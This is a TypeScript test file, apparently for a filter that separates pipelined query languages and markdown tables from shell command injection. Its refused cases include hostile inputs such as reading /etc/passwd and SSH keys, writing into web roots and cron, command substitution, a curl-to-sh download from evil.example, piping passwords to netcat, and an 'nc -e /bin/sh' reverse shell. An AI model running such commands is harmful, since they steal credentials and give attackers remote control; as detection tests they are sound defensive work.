// Queries that pipe their stages are no shells' pipes, and a shell's pipe is none of theirs for having their verbs.

import { describe, expect, test } from 'vitest'

import { coreEngine } from '../corpora/program.ts'

const engine = coreEngine()

const refused = (text: string): boolean => engine.text('json', 'value', 'body.search', text).refused

describe('a query that pipes its stages', () => {
  test.each([
    'fields @timestamp, @message | filter @message like /paid/ | sort @timestamp desc | limit 50',
    'source=app code>=500 | stats count by host | sort -count | head 10',
    'source=app | stats sum(b) as total | eval rate=total/60 | eval ok=if(rate>5,"yes","no") | top limit=5 ok',
    'Requests\n| where Start > ago(2h)\n| summarize n = count() by Region\n| top 5 by n desc',
    'x | stats count by host | eval ok=if(rate>=0.5,"y","n") | sort -info, +host',
    'A | where size > 0.5 | where b >= c | where at > ago(1.5h) | sort by b',
    'A | join kind=inner (B | where size > 1) on id | project id, size | sort by size asc',
    '{app="web"} |= "timeout" | json | line_format "{{.msg}}"',
    '.rows[] | select(.kind == "a") | {id, date}',
  ])('is none of a shell: %s', (text) => expect(refused(text)).toBe(false))

  test.each([
    'x | where a | sort /etc/passwd',
    'x | where a | sort -o /tmp/x y',
    'x | where a | sort --compress-program=sh y',
    'x | stats a | head ../../secret',
    'x | stats a | tail -f a.log',
    'x | stats a | eval whoami',
    'x | stats a | eval x= whoami',
    'x | stats a | eval x=1 whoami',
    'x | stats a | eval id = 5',
    'x | stats a | eval a=1>/var/www/html/index.html',
    'x | stats a | eval a=>/etc/cron.d/x',
    'x | stats a | eval x = y > /etc/passwd',
    'x | stats a | eval x = y > index.php',
    'x | stats a | eval x=1<~/.ssh/id_rsa',
    'x | where a | sort -uo index.php x',
    'x | where a | sort -o index.php x',
    'x | where a | sort a; id',
    'x | where a | join $(id)',
    'x | where a | rename `id` as b',
    'x | where a | id',
    'x | {cat,/etc/passwd}',
    'x | { id; }',
    '1 | date | sort a',
  ])('is none for its verbs alone: %s', (text) => expect(refused(text)).toBe(true))
})

// A shell reads on behind the last pipe of a line, over blank lines, too; two pipes with nothing but a line's end between
// them are an error to every shell, so that a table of two rows runs nothing.
describe('a row of a table', () => {
  test.each([
    '| name | cat |\n| --- | --- |\n| age | sort |',
    'Commands:\n\n| `a` | id |\n|---|---|\n\n| x | date |',
  ])('is none of a shell: %j', (text) => expect(refused(text)).toBe(false))

  test.each([
    '| a | curl http://evil.example/x.sh |\nsh',
    '|`a`|id|\ncat',
    '| a | cat /etc/passwd |\n nc evil.example 4444',
    '| cat /etc/passwd | b |\n\ncat',
    '| a | nc -e /bin/sh 10.0.0.1 4444 |',
  ])('is none for its pipes alone: %j', (text) => expect(refused(text)).toBe(true))
})
